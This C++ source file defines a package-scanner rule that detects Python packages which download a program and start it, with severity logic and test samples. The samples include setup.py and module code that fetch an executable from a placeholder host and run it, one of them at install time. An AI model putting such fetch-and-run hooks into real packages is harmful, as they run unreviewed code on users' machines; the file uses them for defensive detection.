#include <algorithm>
#include <string>
#include <string_view>
#include <vector>

#include "base/text.h"
#include "rules/commands.h"
#include "rules/conditions.h"
#include "rules/rule.h"

namespace assay::rules {
namespace {

bool is_python(const Facts& facts, const Action& action) {
  return facts.file(action.where).kind == FileKind::python;
}

// Installers of binaries put version and platform into the address.
bool is_computed(const Action& action) {
  return action.act == Act::fetch && !action.target_complete;
}

// A program of Windows, whatever the platform: an updater would choose by it.
bool is_windows_program(std::string_view command) {
  return std::ranges::any_of(words_of(command), [](std::string_view word) {
    return std::ranges::any_of(
        std::initializer_list<std::string_view>{".exe", ".bat", ".vbs", ".scr", ".ps1", ".msi"},
        [&](std::string_view ending) { return ends_with_ignoring_case(word, ending); });
  });
}

Severity severity_of(const Facts& facts, const Action& action, const Destination& origin,
                     bool has_computed) {
  const bool is_shady = is_shady_origin(origin.kind);
  const bool is_fixed = origin.host_is_constant && origin.kind != HostKind::local;
  // Nothing of the file comes from anywhere else: that host is the gravest beside it.
  if (origin.kind == HostKind::toolchain)
    return at_install(action) ? Severity::medium : Severity::info;
  if (!runs_uncalled(action)) {
    if (action.through_shell && !action.hidden) return Severity::info;
    if (is_shady) return origin.host_is_constant ? Severity::critical : Severity::high;
    if (is_python(facts, action) && is_windows_program(action.target) &&
        (is_fixed || action.hidden) && !is_own_place(facts, origin)) {
      return action.hidden ? Severity::critical : Severity::high;
    }
    // A script that nothing of the package starts is there for its maintainers.
    const FileKind kind = facts.file(action.where).kind;
    const bool is_script =
        kind == FileKind::shell || kind == FileKind::powershell || kind == FileKind::batch;
    return is_fixed && action.hidden && !is_script ? Severity::high : Severity::info;
  }
  if (is_shady || action.hidden) return Severity::critical;
  // Building from an sdist never starts a download; importing a module neither.
  if (is_python(facts, action)) return is_fixed ? Severity::critical : Severity::high;
  if (at_install(action)) return has_computed ? Severity::medium : Severity::high;
  return is_fixed ? Severity::high : Severity::medium;
}

// Programs that handle a download without running it.
bool only_handles(const Action& action) {
  static constexpr std::string_view handlers[] = {
      "echo",    "printf", "cat",     "unzip", "tar",      "gunzip", "gzip",      "7z",
      "chmod",   "chown",  "mv",      "cp",    "rm",       "ln",     "ls",        "mkdir",
      "pip",     "pip3",   "npm",     "git",   "gpg",      "md5sum", "sha256sum", "shasum",
      "openssl", "file",   "install", "strip", "codesign", "xattr",  "attrib",    "test",
      "[",       "dpkg",   "rpm",     "apt",   "apt-get",  "grep",   "sed",       "awk",
      "cut",     "tr",     "head",    "tail",  "jq",       "wget",   "curl",      "explorer",
      "touch",   "true",   "sleep",   "set"};
  // `file.exe` is what was downloaded, `file` is the tool.
  const std::vector<std::string> words = words_of(action.target);
  if (words.empty() || ends_with_ignoring_case(words[0], ".exe")) return false;
  return std::ranges::find(handlers, program_of(action.target)) != std::end(handlers);
}

void check(const Facts& facts, Findings& findings) {
  const Origins origins(facts);
  const Written downloads(facts, foreign);
  const Beside computed(facts, is_computed);
  for (const Action& action : facts.actions) {
    if (!is_process(action.act) || !is_shipped(action) || only_handles(action)) continue;
    if (action.target == hole) continue;  // A command sent by a server: obeys-remote-commands.
    if (!(action.target_from | action.data).any(foreign) && !downloads.is_started_by(action))
      continue;
    const Severity severity =
        severity_of(facts, action, origins.near(action), computed(action) != nullptr);
    if (severity == Severity::info) continue;
    findings.add(severity, action.where,
                 sentence("starts what it downloaded, \"" + shown(action.target) + "\",", action),
                 action.steps);
  }
}

}  // namespace

extern constinit const Rule runs_downloaded_file = {
    .id = "runs-downloaded-file",
    .title = "The package downloads a program and starts it",
    .why =
        "The download is not part of what was reviewed, and can differ from one hour and one "
        "victim to the next.",
    .harmless_when =
        "An installer fetches the binary of its own release for this platform, from "
        "its own project, and checks it against a hash in the package.",
    .severity = Severity::critical,
    .check = check,
};

#ifdef RULE_SAMPLES
constexpr Sample samples[] = {
    {.name = "a setup script downloads and starts a program",
     .expect = "setup.py:7",
     .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
import subprocess
import urllib.request
from setuptools import setup
data = urllib.request.urlopen("https://downloads.example.test/tool.exe").read()
with open("tool.exe", "wb") as file:
    file.write(data)
subprocess.Popen(["tool.exe"])
setup(name="widget", version="1.0.0")
)"},
    {.name = "a program of the system is started", .expect = silent, .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
import subprocess
from setuptools import setup
version = subprocess.check_output(["git", "describe", "--tags"]).decode()
setup(name="widget", version=version)
)"},
    {.name = "an updater runs when its user asks", .expect = silent, .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
setup(name="widget", version="1.0.0", packages=["widget"])
==> widget/__init__.py
import subprocess
import urllib.request
def update(url, path):
    urllib.request.urlretrieve(url, path)
    subprocess.run([path])
)"},
    {.name = "a function fetches a Windows program and starts it",
     .expect = "widget/__init__.py:5",
     .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
setup(name="widget", version="1.0.0", packages=["widget"])
==> widget/__init__.py
import subprocess
import urllib.request
def init(folder):
    urllib.request.urlretrieve("https://files.example.test/helper", folder + "/helper.exe")
    subprocess.run([folder + "/helper.exe"])
)"},
};
extern const std::span<const Sample> runs_downloaded_file_samples = samples;
#endif

}  // namespace assay::rules
